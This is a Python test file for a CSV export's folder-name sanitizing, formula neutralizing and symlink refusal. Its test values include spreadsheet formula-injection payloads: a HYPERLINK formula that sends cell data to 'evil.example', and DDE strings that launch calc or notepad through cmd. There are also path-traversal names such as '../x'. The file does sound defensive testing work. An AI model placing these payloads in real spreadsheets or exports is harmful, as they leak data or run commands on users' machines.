"""The export's folder names and cells (spec 10.3): a plain reference is its folder; any other
gets one name of its own that is a single path component and cannot be a plain reference's;
formula-like text gets a leading `'`, numbers never; files are never written through a link."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.csv_export import neutralize
from flows.csv_folders import ExportError, MerchantFolders, folder_name, plain_reference

ODD = [
    "/abs", "../x", "M/", "M\\", ".", "..", "", " ", "-M", "M-", ".M", "M.", "a--b", "x" * 65,
    "Mağaza", "ğ" * 128, "M%2F", "@M", "M\x00", "con", "~", "M/../M",
]  # fmt: skip


@pytest.mark.parametrize("reference", ["M", "MER000002", "a.b_c-d", "A" * 64, "m", "1"])
def test_a_plain_reference_is_its_own_folder(reference: str) -> None:
    assert plain_reference(reference)
    assert folder_name(reference) == reference


@pytest.mark.parametrize("reference", [r for r in ODD if r != "con"])
def test_any_other_reference_gets_a_marked_single_component(reference: str) -> None:
    assert not plain_reference(reference)
    name = folder_name(reference)
    assert name.startswith("@") and not plain_reference(name)
    assert "/" not in name and "\\" not in name and "\x00" not in name
    assert name not in (".", "..") and len(name.encode()) <= 100


def test_examples_of_encoded_names() -> None:
    assert [folder_name(r) for r in ["M/", "../x", "", "Mağaza", "M%2F"]] == [
        "@M%2F", "@..%2Fx", "@", "@Ma%C4%9Faza", "@M%252F",
    ]  # fmt: skip
    long = folder_name("ğ" * 128)
    assert long.startswith("@" + "%C4%9F" * 13) and long[-21] == "~"


@given(st.text(max_size=130), st.text(max_size=130))
def test_two_references_never_share_a_folder(one: str, other: str) -> None:
    if one != other:
        assert folder_name(one) != folder_name(other)
    assert "/" not in folder_name(one) and folder_name(one) not in ("", ".", "..")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK("),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("+cmd|' /C notepad'!A1", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kettle", "Kettle"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_formula_like_text_gets_a_leading_quote(value: str, written: str) -> None:
    assert str(neutralize(value)).startswith(written)


@pytest.mark.parametrize("number", [-5, 0, 15090, -1])
def test_numbers_are_written_as_they_are(number: int) -> None:
    assert neutralize(number) == number


def test_a_file_is_never_written_through_a_symbolic_link(tmp_path: Path) -> None:
    out, target = tmp_path / "out", tmp_path / "target.txt"
    (out / "M").mkdir(parents=True)
    target.write_text("keep")
    (out / "M" / "merchant-orders.csv").symlink_to(target)
    with pytest.raises(ExportError, match="a symbolic link"):
        MerchantFolders(out).open("M", "merchant-orders.csv")
    assert target.read_text() == "keep"


def test_a_folder_linked_elsewhere_is_refused(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "M").symlink_to(elsewhere)
    with pytest.raises(ExportError, match="not a folder of its own"):
        MerchantFolders(out).folder("M")


def test_two_merchants_in_one_directory_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a case-insensitive file system does to `M` and `m` (one directory for both),
    made here by naming both folders alike."""
    monkeypatch.setattr("flows.csv_folders.folder_name", str.lower)
    folders = MerchantFolders(tmp_path)
    assert folders.folder("M") == tmp_path / "m"
    with pytest.raises(ExportError, match="merchants 'M' and 'm' would share the folder"):
        folders.folder("m")
